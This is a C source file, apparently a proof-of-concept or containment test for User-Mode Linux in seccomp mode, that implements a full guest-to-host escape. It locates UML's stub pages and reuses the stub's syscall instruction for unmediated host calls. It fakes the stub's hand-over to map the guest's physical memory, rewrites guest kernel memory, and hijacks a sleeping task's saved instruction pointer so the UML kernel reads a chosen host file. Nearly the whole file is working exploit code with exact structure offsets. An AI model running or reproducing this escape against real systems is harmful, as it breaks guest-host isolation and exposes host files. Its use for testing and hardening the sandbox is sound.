// SPDX-License-Identifier: GPL-2.0
/*
 * seccomp-escape [-q] [-d] [-u UID] HOSTPATH [SECONDS]: try, as a hostile
 * guest process, to make host system calls that the guest kernel never
 * sees, and with them to read HOSTPATH, a host file the guest is not shown.
 *
 * UML keeps three pages of its own at the top of every guest process, at
 * STUB_START: the stub's code (arch/um/kernel/skas/stub.c), and its data,
 * the signal stack and, in seccomp mode, the hand-over with the kernel.
 * The guest can read and write them like any of its memory. This program
 *
 *  1. finds them by probing down from the top of the address space (they
 *     end where UML's host stack does; UML turns ASLR off for itself,
 *     os-Linux/main.c, so that is 0x7fffffffc000 and two probes, but each
 *     probe is only a page fault);
 *  2. in a child, jumps to the stub's "syscall; ret" (the end of
 *     stub_signal_restorer) with the registers of a host openat() of
 *     HOSTPATH;
 *  3. in another child, uses that instruction for what the stub's seccomp
 *     filter lets its page do (futex, recvmsg, mmap, munmap, close): plays
 *     the stub's part of the hand-over with a made-up mmap(MAP_POPULATE),
 *     takes the FD of the guest's physical memory that the kernel sends
 *     along and maps all of it; rewrites its own task's comm in the guest
 *     kernel through it; then makes the UML kernel, a host process under
 *     no filter, run host openat(), read() and close() of HOSTPATH: code in
 *     a page of ours, reached through the saved context (switch_buf) of a
 *     guest task asleep in read().
 *
 * In ptrace mode every system call stops at PTRACE_SYSEMU, wherever it is
 * made from, and one made from the stub's pages kills the process.
 *
 * Prints one line on stdout: "escape: ..." and exits 0 when a host system
 * call the guest kernel did not mediate worked (step 2 or 3; "escape: read
 * N bytes of HOSTPATH from the host: LINE" when the file was read), or
 * "contained: ..." and exits 1 when none did, or nothing got through
 * within SECONDS (default 120); 2 on a usage error. What it does as it
 * goes is on stderr (-q: not). -u UID: attack as that user, not root.
 * -d: show what was found where. The layouts are Linux 7.3's, x86_64.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>
#include <linux/futex.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#define ARRAY_SIZE(a)	(sizeof(a) / sizeof((a)[0]))
#define PG		4096UL
#define TOP		(1UL << 47)	/* x86_64 user address space end */

/* arch/um/include/shared/skas/stub-data.h, 7.3 */
struct stub_call {
	unsigned long addr, length, offset;
	int fd, prot;
	int type;			/* 1: mmap, 2: munmap */
};

struct stub_data {
	long err;
	int len;
	struct stub_call calls[(PG - 128) / sizeof(struct stub_call)]
		__attribute__((aligned(16)));
	short restart_wait;
	unsigned int futex;		/* 0: child runs, 1: kernel runs */
	int signal;
	unsigned short si_offset;
	unsigned short mctx_offset;
	struct {
		int sync;
		unsigned long fs_base, gs_base;
	} arch;
	unsigned char sigstack[PG] __attribute__((aligned(PG)));
};

_Static_assert(offsetof(struct stub_data, futex) == 0xf8c, "7.3 layout");
_Static_assert(offsetof(struct stub_data, mctx_offset) == 0xf96, "7.3 layout");
_Static_assert(sizeof(struct stub_data) == 2 * PG, "7.3 layout");

/*
 * struct thread_struct, 7.3 x86_64: switch_buf (rbx, rsp, rbp, r12-r15,
 * rip) ends 24 bytes before regs.gp[], whose first four are r15-r12.
 */
#define JB_RSP_BACK	(88 - 8)
#define JB_RIP_BACK	(88 - 56)

/* stub_signal_restorer: mov $15,%eax; syscall; ret */
static const unsigned char restorer[] = {
	0xb8, 0x0f, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xc3
};

/*
 * Run by the UML kernel, at the kernel address of a page of ours, in place
 * of a sleeping task's return from switch_threads(): openat(), read() and
 * close() of sc_path on the host, then on to where the task was to go,
 * with eax = 1, as longjmp() would have left it. Position independent:
 * copied into a page with its data.
 */
#define SC_BUF	2048
#define STR(x)	#x
#define XSTR(x)	STR(x)
__asm__(
	"	.section .rodata\n"
	"	.balign 16\n"
	"sc_blob:\n"
	"	mov	$-100, %rdi\n"		/* AT_FDCWD */
	"	lea	sc_path(%rip), %rsi\n"
	"	mov	$0x80000, %edx\n"	/* O_RDONLY | O_CLOEXEC */
	"	xor	%r10d, %r10d\n"
	"	mov	$257, %eax\n"		/* openat */
	"	syscall\n"
	"	mov	%rax, sc_fd(%rip)\n"
	"	test	%rax, %rax\n"
	"	js	2f\n"
	"1:	mov	sc_fd(%rip), %rdi\n"
	"	lea	sc_buf(%rip), %rsi\n"
	"	mov	$" XSTR(SC_BUF) ", %edx\n"
	"	xor	%eax, %eax\n"		/* read */
	"	syscall\n"
	"	cmp	$-4, %rax\n"		/* EINTR */
	"	je	1b\n"
	"	mov	%rax, sc_len(%rip)\n"
	"	mov	sc_fd(%rip), %rdi\n"
	"	mov	$3, %eax\n"		/* close */
	"	syscall\n"
	"2:	movq	$1, sc_done(%rip)\n"
	"	mov	$1, %eax\n"
	"	jmp	*sc_resume(%rip)\n"
	"	.balign 16\n"
	"sc_resume:	.quad 0\n"
	"sc_fd:		.quad 0\n"
	"sc_len:	.quad 0\n"
	"sc_done:	.quad 0\n"
	"sc_mark:	.zero 16\n"
	"sc_path:	.zero 1024\n"
	"sc_buf:	.zero " XSTR(SC_BUF) "\n"
	"sc_end:\n"
	"	.globl sc_blob, sc_resume, sc_fd, sc_len, sc_done, sc_mark\n"
	"	.globl sc_path, sc_buf, sc_end\n"
	"	.text\n");
extern const char sc_blob[], sc_resume[], sc_fd[], sc_len[], sc_done[];
extern const char sc_mark[], sc_path[], sc_buf[], sc_end[];
#define SC(page, sym)	((void *)((char *)(page) + (sym - sc_blob)))

static unsigned long stub;		/* STUB_START */
static void *gadget;			/* the stub's "syscall; ret" */
static const char *hostpath;
static int verbose = 1;
static int debug;

static void info(const char *fmt, ...)
	__attribute__((format(printf, 1, 2)));
static void info(const char *fmt, ...)
{
	va_list ap;

	if (!verbose)
		return;
	va_start(ap, fmt);
	fputs("seccomp-escape: ", stderr);
	vfprintf(stderr, fmt, ap);
	fputc('\n', stderr);
	va_end(ap);
}

/*
 * A host system call from the stub's page: "call" the stub's syscall
 * instruction, its "ret" comes back. Below the red zone, which the call
 * would overwrite.
 */
static long stub_call(long nr, long a1, long a2, long a3, long a4, long a5,
		      long a6)
{
	register long r10 __asm__("r10") = a4;
	register long r8 __asm__("r8") = a5;
	register long r9 __asm__("r9") = a6;
	long ret;

	__asm__ volatile("sub $128, %%rsp\n\t"
			 "call *%[g]\n\t"
			 "add $128, %%rsp"
			 : "=a"(ret)
			 : "0"(nr), "D"(a1), "S"(a2), "d"(a3), "r"(r10),
			   "r"(r8), "r"(r9), [g] "r"(gadget)
			 : "rcx", "r11", "memory");
	return ret;
}

/* --- finding the stub ---------------------------------------------------- */

static sigjmp_buf probe_env;
static volatile sig_atomic_t probing;

static void on_segv(int sig, siginfo_t *si, void *uc)
{
	(void)si;
	(void)uc;
	if (probing)
		siglongjmp(probe_env, 1);
	signal(sig, SIG_DFL);
	raise(sig);
}

/* Can this page be read? A guest SIGSEGV says no. */
static int readable(unsigned long addr)
{
	if (sigsetjmp(probe_env, 0)) {
		probing = 0;
		return 0;
	}
	probing = 1;
	(void)*(volatile unsigned char *)addr;
	probing = 0;
	return 1;
}

static int is_stub_code(unsigned long c)
{
	if (c + 3 * PG > TOP || !readable(c) || !readable(c + PG) ||
	    !readable(c + 2 * PG))
		return 0;
	return memmem((void *)c, PG, restorer, sizeof(restorer)) != NULL;
}

/* The end of the guest's own address space (TASK_SIZE, the vDSO's end). */
static unsigned long guest_top(void)
{
	unsigned long a, b, top = 0;
	char line[512];
	FILE *f = fopen("/proc/self/maps", "r");

	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "%lx-%lx", &a, &b) == 2 && b > top && b < TOP)
			top = b;
	if (f)
		fclose(f);
	return top;
}

/*
 * Probe down from the top, a page in three: any three-page block, the stub
 * too, has one probed page. Each miss is a guest page fault.
 */
static unsigned long find_stub(unsigned long *probes)
{
	unsigned long lo = guest_top(), a, c;

	*probes = 0;
	for (a = TOP - PG; a >= lo && a > 3 * PG; a -= 3 * PG) {
		++*probes;
		if (!readable(a))
			continue;
		for (c = a - 2 * PG; c <= a; c += PG)
			if (is_stub_code(c))
				return c;
	}
	return 0;
}

/* --- step 2: a host openat() straight from the stub's page -------------- */

static void report(int fd, const char *fmt, ...)
	__attribute__((format(printf, 2, 3)));
static void report(int fd, const char *fmt, ...)
{
	char buf[1024];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf) - 1, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n > (int)sizeof(buf) - 2)
		n = sizeof(buf) - 2;
	buf[n++] = '\n';
	if (write(fd, buf, n) < 0)
		_exit(3);
}

/* the first line of what was read, printable */
static const char *first_line(char *buf, long n)
{
	long i;

	for (i = 0; i < n && buf[i] != '\n' && i < 200; i++)
		if (buf[i] < 0x20 || buf[i] > 0x7e)
			buf[i] = '?';
	buf[i] = '\0';
	return buf;
}

static void direct(int out)
{
	char buf[512];
	long fd, n;

	report(out, "S openat from the stub page");
	fd = stub_call(SYS_openat, AT_FDCWD, (long)hostpath, O_RDONLY, 0, 0, 0);
	if (fd < 0) {
		report(out, "C a host openat() from the stub page failed: %s",
		       strerror(-fd));
		return;
	}
	n = stub_call(SYS_read, fd, (long)buf, sizeof(buf) - 1, 0, 0, 0);
	if (n < 0) {
		report(out, "C a host read() from the stub page failed: %s",
		       strerror(-n));
		return;
	}
	report(out, "E read %ld bytes of %s from the host with openat() and read() made from the stub page: %s",
	       n, hostpath, first_line(buf, n));
}

/* --- step 3: the physical memory FD, and the UML kernel ----------------- */

static struct stub_data *sd;		/* STUB_DATA */
static unsigned char *phys;		/* the physical memory, mapped */
static unsigned long physsize;

/*
 * The size of the physical memory file: the end of the last zone, by
 * /proc/zoneinfo (a page beyond it would be a host SIGBUS, fatal), else
 * MemTotal, less than it.
 */
static unsigned long mem_size(void)
{
	unsigned long n = 0, spanned = 0, start, end;
	char line[256];
	FILE *f = fopen("/proc/zoneinfo", "r");

	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, " spanned %lu", &spanned) == 1)
			continue;
		if (sscanf(line, " start_pfn: %lu", &start) == 1) {
			end = (start + spanned) * PG;
			if (end > n)
				n = end;
		}
	}
	if (f)
		fclose(f);
	if (!n) {
		f = fopen("/proc/meminfo", "r");
		if (f && fscanf(f, "MemTotal: %lu kB", &n) == 1)
			n <<= 10;
		if (f)
			fclose(f);
	}
	return n & ~(PG - 1);
}

/*
 * Play the stub: make the kernel believe the process trapped on an
 * mmap(MAP_POPULATE) (a signal frame the stub's handler left on its stack,
 * its arguments changed), wake it, wait, and take the message with the
 * FDs for the mappings it then wants made. Make them, as the stub would,
 * and return the FDs.
 */
static int grab_fds(int *fds, int max, char *why, size_t whylen)
{
	union {
		char buf[CMSG_SPACE(sizeof(int) * 8)];
		struct cmsghdr align;
	} ctrl;
	char byte;
	struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
	struct msghdr msg = {
		.msg_iov = &iov, .msg_iovlen = 1,
		.msg_control = ctrl.buf, .msg_controllen = sizeof(ctrl.buf),
	};
	struct cmsghdr *cm;
	mcontext_t *mc;
	siginfo_t *si;
	long n;
	int i, nfds = 0;

	/* no frame in ptrace mode: the futex() below is all there is to try */
	if (sd->mctx_offset && sd->mctx_offset <= PG - sizeof(mcontext_t) &&
	    sd->si_offset <= PG - sizeof(siginfo_t)) {
		mc = (void *)&sd->sigstack[sd->mctx_offset];
		si = (void *)&sd->sigstack[sd->si_offset];
		si->si_syscall = SYS_mmap;
		mc->gregs[REG_RDI] = 0;
		mc->gregs[REG_RSI] = PG;
		mc->gregs[REG_RDX] = PROT_READ | PROT_WRITE;
		mc->gregs[REG_R10] = MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE;
		mc->gregs[REG_R8] = -1;
		mc->gregs[REG_R9] = 0;
		sd->signal = SIGSYS;
	}
	__atomic_store_n(&sd->futex, 1, __ATOMIC_SEQ_CST);
	stub_call(SYS_futex, (long)&sd->futex, FUTEX_WAKE, 1, 0, 0, 0);
	while (__atomic_load_n(&sd->futex, __ATOMIC_SEQ_CST) == 1)
		stub_call(SYS_futex, (long)&sd->futex, FUTEX_WAIT, 1, 0, 0, 0);

	n = stub_call(SYS_recvmsg, 0, (long)&msg, MSG_DONTWAIT, 0, 0, 0);
	if (n < 0) {
		snprintf(why, whylen, "recvmsg() on the stub's socket: %s",
			 strerror(-n));
		return -1;
	}
	for (cm = CMSG_FIRSTHDR(&msg); cm; cm = CMSG_NXTHDR(&msg, cm))
		if (cm->cmsg_level == SOL_SOCKET && cm->cmsg_type == SCM_RIGHTS)
			for (i = 0; i < (int)((cm->cmsg_len - CMSG_LEN(0)) / sizeof(int)) &&
				    nfds < max; i++)
				memcpy(&fds[nfds++], CMSG_DATA(cm) + i * sizeof(int),
				       sizeof(int));
	if (!nfds) {
		snprintf(why, whylen, "the kernel's message carried no FD");
		return -1;
	}

	/* the mappings the kernel asked for: the made-up mmap's page */
	for (i = 0; i < sd->len && i < (int)ARRAY_SIZE(sd->calls); i++) {
		struct stub_call *c = &sd->calls[i];

		if (c->type == 1 && c->fd >= 0 && c->fd < nfds)
			stub_call(SYS_mmap, c->addr, c->length, c->prot,
				  MAP_SHARED | MAP_FIXED, fds[c->fd], c->offset);
		else if (c->type == 2)
			stub_call(SYS_munmap, c->addr, c->length, 0, 0, 0, 0);
	}
	sd->len = 0;
	sd->err = 0;
	return nfds;
}

/* offset of the first LEN bytes at PAT, at AT modulo STEP, or -1 */
static long phys_find(const void *pat, size_t len, unsigned long step,
		      unsigned long at, long from)
{
	unsigned long off;
	uint64_t first;

	memcpy(&first, pat, sizeof(first));
	for (off = from < 0 ? at : (unsigned long)from + step;
	     off + len <= physsize; off += step)
		if (*(uint64_t *)(phys + off) == first &&
		    !memcmp(phys + off, pat, len))
			return off;
	return -1;
}

/* rewrite this task's comm in the guest kernel: proof of a kernel write */
static int poke_comm(char *what, size_t len)
{
	char name[16] = "", seen[32] = "";
	long off = -1;
	int fd, n;

	snprintf(name, sizeof(name), "sx%08lx", random() & 0xffffffffUL);
	prctl(PR_SET_NAME, name);
	while ((off = phys_find(name, sizeof(name), 8, 0, off)) >= 0) {
		phys[off] = 'S';
		fd = open("/proc/self/comm", O_RDONLY);
		n = fd < 0 ? -1 : read(fd, seen, sizeof(seen) - 1);
		if (fd >= 0)
			close(fd);
		if (n > 0 && seen[0] == 'S') {
			seen[n - (seen[n - 1] == '\n')] = '\0';
			snprintf(what, len, "comm %s became %s", name, seen);
			return 0;
		}
		phys[off] = 's';
	}
	snprintf(what, len, "comm %s not found in the guest's memory", name);
	return -1;
}

/* a guest task asleep in read(), with r12-r15 set to find its registers */
struct victim {
	pid_t pid;
	int wake, ack;
	uint64_t key;			/* its marks, never in memory as such */
	long regs;			/* where regs.gp is, in phys */
};

/* r15, r14, r13, r12 of victim KEY: its regs.gp[0..3] */
static inline uint64_t mark(uint64_t key, int i)
{
	return (key ^ 0x5ec0cafe00000000ULL) * (2 * i + 3) + i;
}

static void victim_body(struct victim *v, int rfd, int wfd)
{
	register uint64_t r15 __asm__("r15") = mark(v->key, 0);
	register uint64_t r14 __asm__("r14") = mark(v->key, 1);
	register uint64_t r13 __asm__("r13") = mark(v->key, 2);
	register uint64_t r12 __asm__("r12") = mark(v->key, 3);
	char c;
	long ret;

	__asm__ volatile("syscall"
			 : "=a"(ret)
			 : "0"(SYS_read), "D"(rfd), "S"(&c), "d"(1),
			   "r"(r12), "r"(r13), "r"(r14), "r"(r15)
			 : "rcx", "r11", "memory");
	c = ret == 1 ? 'k' : 'e';
	if (write(wfd, &c, 1) < 0)
		_exit(1);
	_exit(0);
}

static int victim_start(struct victim *v, uint64_t key)
{
	int p[2], q[2];

	v->key = key;
	if (pipe(p) || pipe(q))
		return -1;
	v->pid = fork();
	if (v->pid < 0)
		return -1;
	if (!v->pid) {
		close(p[1]);
		close(q[0]);
		victim_body(v, p[0], q[1]);
	}
	close(p[0]);
	close(q[1]);
	v->wake = p[1];
	v->ack = q[0];
	return 0;
}

/* asleep, state S (in pipe_read()), per /proc */
static int victim_asleep(struct victim *v)
{
	char path[64], buf[256], *p;
	int fd, n, tries;

	snprintf(path, sizeof(path), "/proc/%d/stat", v->pid);
	for (tries = 0; tries < 200; tries++) {
		fd = open(path, O_RDONLY);
		n = fd < 0 ? -1 : read(fd, buf, sizeof(buf) - 1);
		if (fd >= 0)
			close(fd);
		if (n > 0) {
			buf[n] = '\0';
			p = strrchr(buf, ')');
			if (p && p[1] == ' ' && p[2] == 'S')
				return 1;
		}
		usleep(10000);
	}
	return 0;
}

static void victim_end(struct victim *v)
{
	char c;

	if (v->pid <= 0)
		return;
	if (write(v->wake, "x", 1) == 1 && read(v->ack, &c, 1) < 0)
		c = 0;
	close(v->wake);
	close(v->ack);
	waitpid(v->pid, NULL, 0);
	v->pid = 0;
}

/*
 * Where the victim's regs.gp[] is. The marks searched for are in our own
 * memory too, at that moment: a hit that a write shows to be ours is not it.
 */
static long victim_regs(struct victim *v)
{
	volatile uint64_t pat[4];
	long off = -1;
	int i, mine;

	for (i = 0; i < 4; i++)
		pat[i] = mark(v->key, i);
	while ((off = phys_find((void *)pat, sizeof(pat), 8, 0, off)) >= 0) {
		((volatile unsigned char *)phys)[off] ^= 1;
		mine = pat[0] != mark(v->key, 0);
		((volatile unsigned char *)phys)[off] ^= 1;
		if (debug)
			fprintf(stderr, "victim %d: marks at %#lx%s\n", v->pid,
				off, mine ? " (ours)" : "");
		if (!mine)
			break;
	}
	for (i = 0; i < 4; i++)
		pat[i] = 0;
	return off;
}

/*
 * The UML kernel maps the physical memory RWX (setup_physmem()), but for
 * the pages from its brk to the old uml_reserved (ROUND_4M(brk) + 4 MiB),
 * which arch_mm_preinit() maps without exec. The file is a hole below the
 * brk, but for the copy of the stub's code: the first page with data after
 * that copy is past the brk, and 8 MiB on is past the pages without exec.
 */
static long exec_floor(long code_off)
{
	unsigned long off, i;

	for (off = code_off + PG; off + PG <= physsize; off += PG)
		for (i = 0; i < PG; i += 8)
			if (*(uint64_t *)(phys + off + i))
				return off + (8UL << 20);
	return physsize;
}

/* our code pages: the one highest in physical memory, and which it is */
#define NSC	256
static long code_page(unsigned char *scs, int *idx)
{
	long at = sc_mark - sc_blob, best = -1;
	unsigned long off;
	int i;

	for (off = 0; off + PG <= physsize; off += PG) {
		if (memcmp(phys + off + at, SC(scs, sc_mark), 12))
			continue;
		memcpy(&i, phys + off + at + 12, sizeof(i));
		if (i >= 0 && i < NSC && (long)off > best) {
			best = off;
			*idx = i;
		}
	}
	return best;
}

/*
 * uml_physmem, the kernel address of physical 0: an empty list_head in a
 * task_struct points to itself, so its value less its offset is the base.
 */
static unsigned long find_base(long regs)
{
	unsigned long cand[64], votes[64], best = 0, bv = 0, q;
	long off, lo = regs - 0x1000;
	int n = 0, i;

	for (off = lo < 0 ? 0 : lo & ~7L; off < regs; off += 8) {
		q = *(uint64_t *)(phys + off);
		if (q != *(uint64_t *)(phys + off + 8) || q < (unsigned long)off)
			continue;
		q -= off;
		if (q & (PG - 1) || q < 0x100000 || q >= TOP)
			continue;
		for (i = 0; i < n && cand[i] != q; i++)
			;
		if (i == n && n < 64) {
			cand[n] = q;
			votes[n++] = 0;
		}
		if (i < n)
			votes[i]++;
	}
	for (i = 0; i < n; i++)
		if (votes[i] > bv) {
			bv = votes[i];
			best = cand[i];
		}
	return best;
}

static void attack(int out)
{
	unsigned long base, kaddr, rip[2], rsp;
	struct victim v[2] = { { 0 }, { 0 } };
	char why[256] = "", comm[128] = "";
	int fds[8], nfds, i;
	long code_off, sc_off, floor, r;
	unsigned char *sc, *scs, *area;
	uint64_t seed;

	seed = ((uint64_t)random() << 31) ^ random() ^ ((uint64_t)getpid() << 48);
	physsize = mem_size();

	/*
	 * Pages for the code the UML kernel is to run, shared (no copy on
	 * write), each marked with a key and its number; one of them will
	 * be where the kernel can execute.
	 */
	scs = mmap(NULL, NSC * PG, PROT_READ | PROT_WRITE,
		   MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	area = mmap(NULL, physsize, PROT_NONE,
		    MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	if (scs == MAP_FAILED || area == MAP_FAILED || !physsize) {
		report(out, "C setup: %s", strerror(errno));
		return;
	}
	for (i = 0; i < 12; i++)
		((unsigned char *)SC(scs, sc_mark))[i] = random();
	for (i = 0; i < NSC; i++) {
		sc = scs + i * PG;
		if (i)
			memcpy(sc, scs, sc_end - sc_blob);
		else
			memcpy(sc, sc_blob, sc_mark - sc_blob);
		memcpy((char *)SC(sc, sc_mark) + 12, &i, sizeof(i));
		snprintf(SC(sc, sc_path), 1024, "%s", hostpath);
	}

	/* the victims first: no fork() with the host mapping in place */
	for (i = 0; i < 2; i++)
		if (victim_start(&v[i], seed + i) || !victim_asleep(&v[i])) {
			report(out, "C victim %d did not go to sleep", i);
			goto out;
		}

	report(out, "S hand-over with the kernel, from the stub page");
	nfds = grab_fds(fds, 8, why, sizeof(why));
	if (nfds < 0) {
		report(out, "C %s", why);
		goto out;
	}
	report(out, "S mmap of FD %d from the stub page", fds[0]);
	r = stub_call(SYS_mmap, (long)area, physsize, PROT_READ | PROT_WRITE,
		      MAP_SHARED | MAP_FIXED, fds[0], 0);
	if (r != (long)area) {
		report(out, "C the kernel sent FD %d, but mmap() of it failed: %s",
		       fds[0], strerror(-r));
		goto out;
	}
	phys = area;
	for (i = 1; i < nfds; i++)
		stub_call(SYS_close, fds[i], 0, 0, 0, 0, 0);

	/* a copy of the stub's code page is there: it is physical memory */
	code_off = phys_find((void *)stub, PG, PG, 0, -1);
	if (code_off < 0) {
		report(out, "E mapped host FD %d (%lu MiB) from the stub page, but it does not hold the guest's memory",
		       fds[0], physsize >> 20);
		goto out;
	}
	report(out, "S physical memory mapped (%lu MiB, stub code at %#lx)",
	       physsize >> 20, code_off);
	poke_comm(comm, sizeof(comm));
	report(out, "S guest kernel memory: %s", comm);

	/* the victims' registers, their switch_buf, and the kernel's base */
	for (i = 0; i < 2; i++) {
		v[i].regs = victim_regs(&v[i]);
		if (v[i].regs < JB_RSP_BACK + 8) {
			report(out, "E guest physical memory read and written from a guest process (%s); victim %d's registers not found, host file not tried",
			       comm, i);
			goto out;
		}
		rip[i] = *(uint64_t *)(phys + v[i].regs - JB_RIP_BACK);
	}
	if (debug)
		for (r = -0x100; r < 0x40; r += 8)
			fprintf(stderr, "regs%+4ld: %016lx\n", r,
				*(unsigned long *)(phys + v[0].regs + r));
	base = find_base(v[0].regs);
	rsp = *(uint64_t *)(phys + v[0].regs - JB_RSP_BACK);
	/* rip: kernel text, below the stub's; rsp: the kernel's, above it */
	if (!base || rip[0] != rip[1] || rip[0] - base >= (unsigned long)code_off ||
	    rsp - base <= (unsigned long)code_off || rsp - base >= 1UL << 32) {
		report(out, "E guest physical memory read and written from a guest process (%s); switch_buf not recognised (rip %#lx/%#lx, rsp %#lx, base %#lx), host file not tried",
		       comm, rip[0], rip[1], rsp, base);
		goto out;
	}
	floor = exec_floor(code_off);
	sc_off = code_page(scs, &i);
	if (sc_off < floor) {
		report(out, "E guest physical memory read and written (%s); none of our pages where the kernel executes (highest %#lx, below %#lx), host file not tried",
		       comm, sc_off, floor);
		goto out;
	}
	sc = scs + i * PG;
	kaddr = base + sc_off;
	report(out, "S kernel base %#lx, switch_buf rip %#lx, our page at %#lx",
	       base, rip[0], kaddr);

	/* victim 0 resumes in our page, and from there where it was to go */
	*(uint64_t *)SC(sc, sc_resume) = rip[0];
	*(uint64_t *)(phys + v[0].regs - JB_RIP_BACK) = kaddr;
	report(out, "S waking victim %d", v[0].pid);
	victim_end(&v[0]);
	for (i = 0; i < 300 && !*(volatile uint64_t *)SC(sc, sc_done); i++)
		usleep(10000);
	if (!*(volatile uint64_t *)SC(sc, sc_done)) {
		report(out, "E guest physical memory read and written (%s); the kernel did not run our page", comm);
		goto out;
	}
	r = *(volatile int64_t *)SC(sc, sc_fd);
	if (r >= 0)
		r = *(volatile int64_t *)SC(sc, sc_len);
	if (r < 0) {
		report(out, "E the UML kernel ran our code (host openat/read of %s: %s); %s",
		       hostpath, strerror(-r), comm);
		goto out;
	}
	report(out, "E read %ld bytes of %s from the host: %s", r, hostpath,
	       first_line(SC(sc, sc_buf), r));
out:
	for (i = 0; i < 2; i++)
		victim_end(&v[i]);
}

/* --- the parent: children, verdict -------------------------------------- */

static volatile pid_t running;
static const char *stage = "start";
static unsigned int limit = 120;

static void on_alarm(int sig)
{
	char msg[256];
	int n;

	(void)sig;
	if (running > 0)
		kill(running, SIGKILL);
	n = snprintf(msg, sizeof(msg),
		     "contained: nothing got through within %u s (at: %s)\n",
		     limit, stage);
	if (n > 0 && write(1, msg, n) < 0)
		n = 0;
	_exit(1);
}

/* SRC into DST of LEN bytes, cut if need be */
static void copy(char *dst, size_t len, const char *src)
{
	size_t n = strnlen(src, len - 1);

	memcpy(dst, src, n);
	dst[n] = '\0';
}

/* run FN in a child; its last line in LINE; "" and *sig if it was killed */
static void run(void (*fn)(int), char *line, size_t len, char *last,
		size_t lastlen, int *sig)
{
	char buf[4096];
	size_t used = 0;
	ssize_t n;
	int p[2], status = 0;
	char *s, *e;

	*line = *last = '\0';
	*sig = 0;
	if (pipe(p))
		return;
	fflush(NULL);
	running = fork();
	if (running == 0) {
		close(p[0]);
		fn(p[1]);
		_exit(0);
	}
	close(p[1]);
	while ((n = read(p[0], buf + used, sizeof(buf) - 1 - used)) > 0 ||
	       (n < 0 && errno == EINTR)) {
		if (n < 0)
			continue;
		used += n;
		buf[used] = '\0';
		while ((e = strchr(buf, '\n'))) {
			*e = '\0';
			s = buf;
			if (s[0] == 'S') {
				info("%s", s + 2);
				copy(last, lastlen, s + 2);
			} else {
				copy(line, len, s);
			}
			used -= e + 1 - buf;
			memmove(buf, e + 1, used + 1);
		}
		if (used == sizeof(buf) - 1)
			used = 0;
	}
	close(p[0]);
	while (waitpid(running, &status, 0) < 0 && errno == EINTR)
		;
	running = 0;
	if (WIFSIGNALED(status))
		*sig = WTERMSIG(status);
}

int main(int argc, char **argv)
{
	struct sigaction sa = { .sa_sigaction = on_segv,
				.sa_flags = SA_SIGINFO | SA_NODEFER };
	char line1[1200], line2[1200], last1[256], last2[256];
	unsigned long probes;
	struct timespec t0, t1;
	const char *mode;
	int sig1, sig2, c;
	unsigned int uid = 0;
	int drop = 0;

	while ((c = getopt(argc, argv, "dqu:")) != -1) {
		switch (c) {
		case 'd':
			debug = 1;
			break;
		case 'q':
			verbose = 0;
			break;
		case 'u':
			uid = strtoul(optarg, NULL, 0);
			drop = 1;
			break;
		default:
			goto usage;
		}
	}
	if (optind >= argc || argc - optind > 2)
		goto usage;
	hostpath = argv[optind];
	if (argc - optind == 2)
		limit = strtoul(argv[optind + 1], NULL, 0);
	if (drop && (setgroups(0, NULL) || setresgid(uid, uid, uid) ||
		     setresuid(uid, uid, uid))) {
		perror("seccomp-escape: -u");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	srandom(time(NULL) ^ getpid());
	signal(SIGALRM, on_alarm);
	alarm(limit);
	sigaction(SIGSEGV, &sa, NULL);

	stage = "finding the stub";
	clock_gettime(CLOCK_MONOTONIC, &t0);
	stub = find_stub(&probes);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	if (!stub) {
		printf("contained: no stub pages found above the guest's address space (%lu probes)\n",
		       probes);
		return 1;
	}
	signal(SIGSEGV, SIG_DFL);
	gadget = memmem((void *)stub, PG, restorer, sizeof(restorer));
	gadget = (char *)gadget + 5;
	sd = (struct stub_data *)(stub + PG);
	/* in seccomp mode the stub's handler has left a frame (getppid: a trap) */
	getppid();
	mode = sd->mctx_offset ? "seccomp" : "ptrace";
	info("uid %u; stub at %#lx (%lu probes, %.1f s), syscall;ret at +%#lx; %s mode by the stub's data",
	     getuid(), stub, probes,
	     (t1.tv_sec - t0.tv_sec) + (t1.tv_nsec - t0.tv_nsec) / 1e9,
	     (unsigned long)gadget - stub, mode);

	stage = "openat() from the stub page";
	run(direct, line1, sizeof(line1), last1, sizeof(last1), &sig1);
	if (line1[0] == 'E') {
		printf("escape: %s\n", line1 + 2);
		return 0;
	}
	if (sig1)
		info("openat() from the stub page: the process was killed (%s)",
		     strsignal(sig1));

	stage = "the physical memory FD";
	run(attack, line2, sizeof(line2), last2, sizeof(last2), &sig2);
	if (line2[0] == 'E') {
		printf("escape: %s\n", line2 + 2);
		return 0;
	}
	printf("contained: %s mode; host openat() from the stub page: %s%s%s; the stub's hand-over for the physical memory FD: %s%s%s%s%s\n",
	       mode, sig1 ? "process killed (" : "",
	       sig1 ? strsignal(sig1) : line1[0] ? line1 + 2 : "no answer",
	       sig1 ? ")" : "",
	       sig2 ? "process killed (" : "",
	       sig2 ? strsignal(sig2) : line2[0] ? line2 + 2 : "no answer",
	       sig2 ? ")" : "", sig2 ? " at: " : "", sig2 ? last2 : "");
	return 1;
usage:
	fprintf(stderr, "usage: seccomp-escape [-q] [-d] [-u UID] HOSTPATH [SECONDS]\n");
	return 2;
}
